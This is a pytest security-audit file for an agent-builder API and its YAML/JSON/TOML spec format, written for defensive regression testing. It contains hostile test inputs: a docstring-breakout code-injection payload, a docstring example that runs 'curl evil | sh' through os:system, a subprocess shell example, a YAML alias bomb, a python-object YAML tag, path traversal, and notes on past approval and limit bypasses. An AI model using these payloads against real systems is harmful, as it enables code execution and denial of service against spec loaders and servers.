"""An audit of the agent builder and of specs, as a hostile builder user and as someone
handing a victim a crafted spec file would attack them.

Each test asserts the safe behaviour. The first part holds the attacks that got through
when this file was written; the second part ("Attacks that held") pins down attacks that
were already refused, where tests/contract/test_builder_hostile.py and
tests/core/test_spec.py did not cover them yet.
"""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from selectools import Agent, AgentConfig, Provider, Reply, ScriptedProvider, call
from selectools.approval import RequireApproval
from selectools.serving import ServingOptions
from selectools.spec import AgentSpec, SpecError
from tests.contract import apps
from tests.contract.conftest import parse_sse
from tests.fakes.openai_server import FakeOpenAIServer, FakeReply
from tests.fakes.spec_targets import cancel_order, echo_provider, order_status

SECRET = "sk-server-secret-0000"
HERE = "tests.contract.test_builder_audit"
ECHO = "tests.fakes.spec_targets:echo_provider"
TARGETS = "tests.fakes.spec_targets"
ADA = {"Authorization": "Bearer token-ada"}
BOB = {"Authorization": "Bearer token-bob"}

# What a Python export may call: the classes it builds and the `_as_tools` helper.
EXPORT_CALLS = {
    *("Agent", "AgentConfig", "OpenAIProvider", "RateLimiter", "ResponseCache", "Retry"),
    *("CircuitBreaker", "load_toolkit", "with_approval", "_as_tools"),
    *("callable", "found.tools", "hasattr", "isinstance", "list"),
}


# -- models a page could talk into calling a tool (as `ServingOptions.builder_providers`) --


def canceller(model: str | None = None) -> Provider:
    """Calls `cancel_order(1001)` (a write tool), then repeats what it returned."""

    def respond(request: Any) -> Reply | str:
        last = request.messages[-1]
        if last.role == "tool":
            return f"Done: {last.content}"
        return Reply(calls=(call("cancel_order", order_id=1001),))

    return ScriptedProvider(responder=respond, model=model or "scripted")


def shouter(model: str | None = None) -> Provider:
    """Calls `shout("hi")`, then repeats what it returned."""

    def respond(request: Any) -> Reply | str:
        last = request.messages[-1]
        if last.role == "tool":
            return f"Done: {last.content}"
        return Reply(calls=(call("shout", text="hi"),))

    return ScriptedProvider(responder=respond, model=model or "scripted")


def looper(model: str | None = None) -> Provider:
    """Never stops calling `order_status`: a run that costs whatever its limits allow."""
    return ScriptedProvider(
        responder=lambda request: Reply(calls=(call("order_status", order_id=1001),)),
        model=model or "scripted",
    )


class NotAToolkit:
    """Any class at all (`subprocess.Popen`, say): building it is its side effect."""

    def __init__(self, path: str) -> None:
        Path(path).write_text("built")


PROVIDERS = (ECHO, f"{HERE}:canceller", f"{HERE}:shouter", f"{HERE}:looper")
# Every installed toolkit offered: these attacks probe what a tried toolkit could reach.
INSTALLED = ("toolbox", "python", "files", "sql", "chroma", "hubspot", "s3", "salesforce")
OPTIONS = ServingOptions(builder=True, builder_providers=PROVIDERS, builder_toolkits=INSTALLED)


# -- clients --------------------------------------------------------------------------

Make = Callable[..., Any]


def fastapi_client(options: ServingOptions = OPTIONS, agent: Agent | None = None) -> Any:
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from selectools_fastapi import AgentRouter

    app = FastAPI()
    served = agent or Agent([order_status], ScriptedProvider(["hi"]))
    app.include_router(AgentRouter(served, options=options), prefix="/agent")
    return TestClient(app, raise_server_exceptions=False)


def flask_client(options: ServingOptions = OPTIONS, agent: Agent | None = None) -> Any:
    from flask import Flask

    from selectools_flask import Selectools

    app = Flask("builder_audit")
    served = agent or Agent([order_status], ScriptedProvider(["hi"]))
    Selectools(app, agent=served, options=options)  # url_prefix "/agent"
    return app.test_client()


def with_identity_client(kind: str, agent: Agent, options: ServingOptions) -> Any:
    """The contract apps: their own bearer auth, and `identity=` set (ada, bob)."""
    if kind == "flask":
        return apps.flask_app(agent, options).test_client()
    from fastapi.testclient import TestClient

    return TestClient(apps.fastapi_app(agent, options), raise_server_exceptions=False)


def send(
    client: Any, path: str, body: Any, headers: dict[str, str] | None = None
) -> tuple[int, str]:
    """Status and text; `body` is JSON data, or raw JSON text when it is a str."""
    if isinstance(body, str):
        kind = {"content-type": "application/json", **(headers or {})}
        key = "data" if hasattr(client, "application") else "content"
        answer = client.post(path, headers=kind, **{key: body})
    else:
        answer = client.post(path, json=body, headers=headers or {})
    text = answer.get_data(as_text=True) if hasattr(answer, "get_data") else answer.text
    answer.close()
    return answer.status_code, str(text)


def error_message(text: str) -> str:
    """The error's message, from a JSON error body or from a stream's error event."""
    try:
        return str(json.loads(text)["error"]["message"])
    except (ValueError, KeyError, TypeError):
        errors = [data for name, data in parse_sse(text) if name == "error"]
        return str(errors[0]["error"]["message"]) if errors else ""


def tool_outputs(text: str) -> list[str]:
    return [str(data["output"]) for name, data in parse_sse(text) if name == "tool_call_finished"]


@pytest.fixture(params=[fastapi_client, flask_client], ids=["fastapi", "flask"])
def make(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Make:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    chosen: Make = request.param
    return chosen


def parsed(data: dict[str, Any]) -> tuple[AgentSpec | None, str]:
    """The spec, or None and the message it was refused with."""
    try:
        return AgentSpec.parse(data), ""
    except SpecError as exc:
        return None, str(exc)


def exported_calls(code: str) -> set[str]:
    tree = ast.parse(code)
    return {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}


# == Findings: each of these failed when the audit was written ==========================


BREAKOUT = '""";open("PWNED","w");"""'  # 26 characters: fits `name` (64 at most)


def test_the_agent_name_cannot_break_out_of_the_python_exports_docstring() -> None:
    """`name` was written into the export's docstring with repr(): a name holding `\"\"\"`
    closed the docstring and the rest ran as code when the exported file was run."""
    spec, refusal = parsed({"name": BREAKOUT})
    if spec is None:  # refusing such a name is safe too
        assert "name" in refusal
        return
    code = spec.to_python()
    assert exported_calls(code) <= EXPORT_CALLS, code
    docstring = ast.get_docstring(ast.parse(code))
    assert docstring is not None
    assert BREAKOUT in docstring or "builder" in docstring


def test_the_builder_export_of_a_hostile_name_is_data_not_code(make: Make) -> None:
    """The same breakout through `POST /builder/export`, the Python a page shows and saves."""
    status, text = send(make(), "/agent/builder/export", {"spec": {"name": BREAKOUT}})
    if status == 422:
        assert "name" in error_message(text)
        return
    assert status == 200
    assert exported_calls(json.loads(text)["python"]) <= EXPORT_CALLS


INFINITE = [
    ({"limits": {"run_timeout": float("inf")}}, "run_timeout"),
    ({"limits": {"tool_timeout": float("inf")}}, "tool_timeout"),
    ({"policies": {"retry": {"max_time": float("inf")}}}, "max_time"),
    ({"policies": {"cache": {"ttl": float("inf")}}}, "ttl"),
    ({"tools": [{"toolkit": "toolbox", "settings": {"scale": float("inf")}}]}, "settings"),
]


@pytest.mark.parametrize(("data", "key"), INFINITE, ids=[key for _, key in INFINITE])
def test_infinite_numbers_are_refused_or_exported_as_literals(
    data: dict[str, Any], key: str, tmp_path: Path
) -> None:
    """YAML `.inf`, TOML `inf` and JSON `1e999`/`Infinity` were accepted: the Python export
    then said `run_timeout=inf` (a NameError when run), a setting became `null` in YAML
    and TOML could not be written at all."""
    spec, refusal = parsed(data)
    if spec is None:
        assert key in refusal
        return
    code = spec.to_python()
    names = {node.id for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Name)}
    assert not names & {"inf", "nan"}, code
    (tmp_path / "agent.yaml").write_text(spec.to_yaml())
    assert AgentSpec.load(tmp_path / "agent.yaml") == spec  # the YAML says the same
    spec.to_toml()


@pytest.mark.parametrize(
    "raw",
    [
        '{"spec": {"limits": {"run_timeout": 1e999}}}',
        '{"spec": {"tools": [{"toolkit": "toolbox", "settings": {"scale": 1e999}}]}}',
    ],
    ids=["limits", "settings"],
)
def test_an_infinite_number_on_the_wire_is_not_a_500_or_a_broken_export(
    make: Make, raw: str
) -> None:
    """`1e999` is valid JSON that parses to infinity: a setting was a bare 500 (TOML could
    not write it), a limit an export that raised NameError."""
    status, text = send(make(), "/agent/builder/export", raw)
    assert status in (200, 422), text
    if status == 200:
        names = {
            n.id for n in ast.walk(ast.parse(json.loads(text)["python"])) if isinstance(n, ast.Name)
        }
        assert "inf" not in names


BAD_VALUES = [
    ("export", {"policies": {"rate_limit": "garbage"}}, "rate_limit"),
    ("try", {"policies": {"rate_limit": "garbage"}}, "rate_limit"),
    ("try", {"policies": {"rate_limit": "-1/second"}}, "rate_limit"),
    ("export", {"tools": [{"toolkit": "toolbox", "settings": {"x": None}}]}, "settings"),
    ("export", {"tools": [{"toolkit": "toolbox", "settings": {"x": [1, None]}}]}, "settings"),
    ("try", {"tools": [{"toolkit": "toolbox"}, {"toolkit": "toolbox"}]}, "calculate"),
    ("try", {"tools": [{"toolkit": "toolbox", "only": ["calculate", "calculate"]}]}, "calculate"),
    ("try", {"tools": [f"{TARGETS}:order_status", f"{TARGETS}:order_status"]}, "order_status"),
]


@pytest.mark.parametrize(("route", "spec", "key"), BAD_VALUES)
def test_bad_values_are_a_4xx_naming_the_key_never_a_500(
    make: Make, route: str, spec: dict[str, Any], key: str
) -> None:
    """A rate limit that does not parse was a bare 500 on try (and an export whose agent
    could not load); a null setting a 500 on export (TOML has no null); the same tool twice
    a 500 `tool_definition_error` whose message showed function addresses."""
    body: dict[str, Any] = {"spec": {"provider": {"factory": ECHO}, **spec}}
    if route == "try":
        body["input"] = "hi"
    status, text = send(make(), f"/agent/builder/{route}", body)
    assert status != 500, text
    if route == "export" and status == 200 and key == "settings":
        return  # written some other faithful way: fine
    assert 400 <= status < 500, text
    assert key in error_message(text)
    assert " at 0x" not in text


@pytest.mark.parametrize("toolkit", ["chroma", "hubspot", "s3", "salesforce"])
def test_a_toolkit_that_refuses_its_defaults_is_a_422_not_a_bare_500(
    make: Make, toolkit: str
) -> None:
    """These constructors raise ValueError (not TypeError) without settings: the page
    lists them, a tried spec naming one got a bare 500 `internal_error`."""
    spec = {"provider": {"factory": ECHO}, "tools": [{"toolkit": toolkit}]}
    status, text = send(make(), "/agent/builder/try", {"spec": spec, "input": "hi"})
    assert status == 422, text
    assert toolkit in error_message(text).lower()
    with pytest.raises(SpecError):
        AgentSpec.parse({"tools": [{"toolkit": toolkit}]}).build()


def test_a_tried_spec_keeps_the_served_agents_approval_policy(make: Make) -> None:
    """The served agent pauses `cancel_order` (a write tool) for a person
    (`RequireApproval()`); the same tool picked from the catalog on /builder/try ran
    at once: the tried agent had none of the served agent's policies."""
    served = Agent([cancel_order], canceller(), policies=[RequireApproval()])
    client = make(OPTIONS, served)
    status, text = send(client, "/agent/invoke", {"input": "cancel 1001"})
    assert status == 200
    assert json.loads(text)["status"] == "awaiting_approval"  # what the served agent does

    spec = {"provider": {"factory": f"{HERE}:canceller"}, "tools": [f"{TARGETS}:cancel_order"]}
    _, text = send(client, "/agent/builder/try", {"spec": spec, "input": "cancel 1001"})
    assert "cancelled 1001" not in tool_outputs(text), text  # it never ran unapproved


def test_a_tried_spec_keeps_a_served_tools_own_approval_flag(make: Make) -> None:
    """A served tool marked `requires_approval` (here by its own spec's
    `policies.approval`) wraps a plain function; its catalog `ref` imports that bare
    function, so the tried agent ran it without approval."""
    served = AgentSpec.parse(
        {
            "provider": {"factory": f"{HERE}:shouter"},
            "tools": [f"{TARGETS}:shout"],
            "policies": {"approval": ["shout"]},
        }
    ).build()
    client = make(OPTIONS, served)
    assert json.loads(send(client, "/agent/invoke", {"input": "x"})[1])["status"] == (
        "awaiting_approval"
    )
    spec = {"provider": {"factory": f"{HERE}:shouter"}, "tools": [f"{TARGETS}:shout"]}
    _, text = send(client, "/agent/builder/try", {"spec": spec, "input": "x"})
    assert "HI" not in tool_outputs(text), text


def test_a_tried_spec_stays_within_the_served_agents_limits(make: Make) -> None:
    """`/invoke` caps `config.max_iterations` at the served agent's (2 here); a tried spec
    set `limits.max_iterations: 100` (and could drop `run_timeout`): 100 paid model calls
    for one request, 50 times what the server allows."""
    served = Agent([order_status], looper(), config=AgentConfig(max_iterations=2, run_timeout=30))
    client = make(OPTIONS, served)
    capped = send(client, "/agent/invoke", {"input": "x", "config": {"max_iterations": 100}})
    assert "max_iterations=2" in capped[1]

    spec = {
        "provider": {"factory": f"{HERE}:looper"},
        "tools": [f"{TARGETS}:order_status"],
        "limits": {"max_iterations": 100},
    }
    status, text = send(client, "/agent/builder/try", {"spec": spec, "input": "x"})
    assert status == 422 or len(tool_outputs(text)) <= 2, f"{len(tool_outputs(text))} tool calls"


HIDDEN_SECRETS = [
    {
        "tools": [
            {"toolkit": "http", "settings": {"headers": {"Authorization": "Bearer sk-live-1"}}}
        ]
    },
    {"tools": [{"toolkit": "mcp", "settings": {"headers": {"Cookie": "sid=sk-live-1"}}}]},
    {"tools": [{"toolkit": "salesforce", "settings": {"session_id": "00D!sk-live-1"}}]},
    {"tools": [{"ref": "a:b", "settings": {"private_key": "-----BEGIN sk-live-1"}}]},
    {"tools": [{"toolkit": "hubspot", "settings": {"access_\uff54oken": "pat-sk-live-1"}}]},
    {
        "tools": [
            {"toolkit": "sql", "settings": {"engine_or_url": "postgresql://app:sk-live-1@db/x"}}
        ]
    },
    {"tools": [{"toolkit": "mcp", "settings": {"server": "https://bot:sk-live-1@mcp.internal/"}}]},
]


@pytest.mark.parametrize(
    "data",
    HIDDEN_SECRETS,
    ids=["authorization", "cookie", "sf-session", "private-key", "fullwidth", "db-url", "mcp-url"],
)
def test_credentials_under_other_names_are_refused(data: dict[str, Any]) -> None:
    """Only keys matching api_key|secret|token|password|passwd|credential were refused: an
    Authorization or Cookie header, Salesforce's `session_id`, a private key, a URL with a
    password, and a fullwidth `access_token` (Python's NFKC makes it `access_token` in the
    export) all
    went into specs meant to be committed and shared."""
    with pytest.raises(SpecError, match=r"(?i)secret") as caught:
        AgentSpec.parse(data)
    assert "sk-live-1" not in str(caught.value)


def test_the_builder_export_refuses_an_authorization_header(make: Make) -> None:
    spec = {"tools": [{"toolkit": "http", "settings": {"headers": {"Authorization": "Bearer x"}}}]}
    status, text = send(make(), "/agent/builder/export", {"spec": spec})
    assert status == 422, text
    assert "Bearer x" not in text


def test_limits_max_tokens_is_a_setting_not_a_secret() -> None:
    """`limits.max_tokens` matched the secret pattern (`token`): a documented field of
    every spec was refused as a credential."""
    spec = AgentSpec.parse({"provider": {"factory": ECHO}, "limits": {"max_tokens": 256}})
    assert spec.build().config.max_tokens == 256


def test_a_crafted_spec_file_cannot_call_any_function_with_its_model(tmp_path: Path) -> None:
    """`provider.factory` may name any importable callable and `model` is its argument:
    `{factory: "os:system", model: "curl evil | sh"}` runs a command when a victim calls
    `Agent.from_spec(path)`. Here `os:mkdir` stands in and leaves a folder behind."""
    made = tmp_path / "made-by-the-spec"
    path = tmp_path / "agent.yaml"
    path.write_text(f"provider:\n  factory: os:mkdir\n  model: {json.dumps(str(made))}\n")
    with pytest.raises(SpecError):
        Agent.from_spec(path)
    assert not made.exists()


def test_a_crafted_spec_file_cannot_build_any_class_with_its_settings(tmp_path: Path) -> None:
    """`ref` + `settings` instantiated any class, not only toolkits: `subprocess:Popen`
    with `{args: [...], shell: true}` runs a command when a victim loads the spec. Here
    `NotAToolkit` stands in and writes a file."""
    created = tmp_path / "created-by-the-spec"
    path = tmp_path / "agent.yaml"
    path.write_text(
        f"tools:\n  - ref: {HERE}:NotAToolkit\n    settings: {{path: {json.dumps(str(created))}}}\n"
    )
    with pytest.raises(SpecError):
        Agent.from_spec(path)
    assert not created.exists()


def test_a_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    """A 400-byte YAML file whose aliases expand to 10**8 nodes: the secret check walked
    every one (about a minute per million-fold), so loading the spec hung."""
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x","x"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 8)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join([*lines, "name: bomb", ""]))
    script = (
        "import sys\nfrom selectools.spec import AgentSpec, SpecError\n"
        "try:\n    AgentSpec.load(sys.argv[1])\nexcept SpecError:\n    print('refused')\n"
    )
    try:
        done = subprocess.run(
            [sys.executable, "-c", script, str(path)],
            capture_output=True,
            text=True,
            timeout=3,
            cwd=Path(__file__).parents[2],
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("loading a 400-byte spec took more than 3 s")
    assert done.stdout.strip() == "refused", done.stderr[-500:]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("agent.yaml", "policies:\n  approval: [cancel_order]\nname: a\npolicies: {}\n"),
        ("agent.json", '{"policies": {"approval": ["cancel_order"]}, "policies": {}}'),
    ],
)
def test_a_key_given_twice_is_refused_not_silently_replaced(
    tmp_path: Path, name: str, text: str
) -> None:
    """YAML and JSON kept the last of two equal keys: a reviewer reads the approval near
    the top of a long shared spec, a second `policies:` further down drops it."""
    (tmp_path / name).write_text(text)
    with pytest.raises(SpecError, match="policies"):
        AgentSpec.load(tmp_path / name)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("deep.yaml", "name: a\nx: " + "[" * 3000 + "]" * 3000),
        ("deep.json", '{"x": ' + "[" * 3000 + "]" * 3000 + "}"),
        ("deep.toml", "x = " + "[" * 3000 + "]" * 3000),
    ],
)
def test_a_deeply_nested_spec_file_is_a_spec_error(tmp_path: Path, name: str, text: str) -> None:
    """A RecursionError escaped `AgentSpec.load` instead of a SpecError naming the file."""
    (tmp_path / name).write_text(text)
    with pytest.raises(SpecError, match=name):
        AgentSpec.load(tmp_path / name)


@pytest.mark.parametrize("ref", ["a..b:c", "a.1b:c", "os:class", "import:x"])
def test_a_reference_that_is_no_python_import_is_refused(ref: str) -> None:
    """The reference pattern allowed empty or digit-led module parts and keywords: the
    Python export then wrote `from a..b import c`, a file that does not parse."""
    spec, _ = parsed({"tools": [ref]})
    if spec is not None:
        ast.parse(spec.to_python())


# == Attacks that held (more coverage than the existing tests) ==========================


@pytest.fixture
def marker_module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A module that leaves a file behind when it is imported."""
    marker = tmp_path / "imported"
    (tmp_path / "audit_marker_mod.py").write_text(
        f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
        "def tool(x: int) -> int:\n    return x\n"
        "def make(model=None):\n    return None\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    yield marker
    sys.modules.pop("audit_marker_mod", None)


@pytest.mark.parametrize(
    "spec",
    [
        {"tools": ["audit_marker_mod:tool"]},
        {"tools": [{"ref": "audit_marker_mod:tool", "only": ["tool"]}]},
        {"provider": {"factory": "audit_marker_mod:make", "model": "x"}},
        {"tools": [f"{TARGETS}:order_status.function"]},  # a served tool's attribute
        {"tools": [f"{TARGETS}:shout"]},  # importable, but not served
        {"tools": ["os:system"]},
        {"provider": {"factory": "os:system", "model": "true"}},
        {"tools": [{"toolkit": "no-such-toolkit"}]},
    ],
)
def test_a_tried_spec_imports_nothing_outside_the_catalog(
    make: Make, marker_module: Path, spec: dict[str, Any]
) -> None:
    status, text = send(make(), "/agent/builder/try", {"spec": spec, "input": "hi"})
    assert status == 422, text
    assert not marker_module.exists()


def test_the_export_imports_nothing_it_writes(make: Make, marker_module: Path) -> None:
    spec = {"tools": ["audit_marker_mod:tool"], "provider": {"factory": "audit_marker_mod:make"}}
    status, text = send(make(), "/agent/builder/export", {"spec": spec})
    assert status == 200
    assert "from audit_marker_mod import" in json.loads(text)["python"]
    assert not marker_module.exists()


def test_yaml_tags_never_build_python_objects(tmp_path: Path) -> None:
    made = tmp_path / "made-by-a-tag"
    path = tmp_path / "agent.yaml"
    path.write_text(f"name: !!python/object/apply:os.mkdir [{json.dumps(str(made))}]\n")
    with pytest.raises(SpecError, match="not valid YAML"):
        AgentSpec.load(path)
    assert not made.exists()


@pytest.mark.parametrize("kind", ["fastapi", "flask"])
def test_a_tried_spec_cannot_enter_another_callers_session(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    options = ServingOptions(builder=True, builder_providers=(ECHO,))
    client = with_identity_client(kind, Agent([order_status], echo_provider()), options)
    assert send(client, "/agent/invoke", {"input": "ada's words", "session_id": "s-ada"}, ADA)[0]
    spec = {"provider": {"factory": ECHO}, "tools": [f"{TARGETS}:order_status"]}
    body = {"spec": spec, "input": "what did she say?", "session_id": "s-ada"}
    status, text = send(client, "/agent/builder/try", body, BOB)
    events = parse_sse(text) if status == 200 else []
    errors = [data["error"] for name, data in events if name == "error"]
    assert status == 404 or [e["status"] for e in errors] == [404], text
    assert "ada's words" not in text
    stored = client.get("/agent/sessions/s-ada", headers=ADA)
    assert len(stored.json["messages"] if kind == "flask" else stored.json()["messages"]) == 4


def test_an_upstream_error_that_echoes_the_key_is_not_shown(
    make: Make, openai_server: FakeOpenAIServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server's own endpoint (OPENAI_BASE_URL) answering 401 with the key in its body:
    the page sees a message of ours, never the upstream's text."""
    monkeypatch.setenv("OPENAI_BASE_URL", openai_server.base_url)
    openai_server.default = FakeReply(
        status=401, error={"message": f"Incorrect API key provided: {SECRET}"}
    )
    spec = {"provider": {"name": "openai", "model": "gpt-4o-mini"}}
    status, text = send(make(), "/agent/builder/try", {"spec": spec, "input": "hi"})
    assert openai_server.count >= 1
    assert SECRET not in text
    assert status == 401 or "API key" in error_message(text)


def test_the_servers_limits_apply_to_tried_runs(make: Make) -> None:
    options = ServingOptions(
        builder=True,
        builder_providers=(ECHO,),
        rate_limit="1/minute",
        max_input_chars=100,
        max_body_bytes=5_000,
    )
    client = make(options)
    spec = {"provider": {"factory": ECHO}, "tools": [f"{TARGETS}:order_status"]}
    assert send(client, "/agent/builder/try", {"spec": spec, "input": "x" * 101})[0] == 413
    assert send(client, "/agent/builder/export", {"spec": {"system_prompt": "x" * 6_000}})[0] == (
        413
    )
    for session_id in ["", "../../etc", "x" * 500]:
        body = {"spec": spec, "input": "hi", "session_id": session_id}
        assert send(client, "/agent/builder/try", body)[0] == 422
    assert send(client, "/agent/builder/try", {"spec": spec, "input": "hi"})[0] == 200
    assert send(client, "/agent/builder/try", {"spec": spec, "input": "hi"})[0] == 429
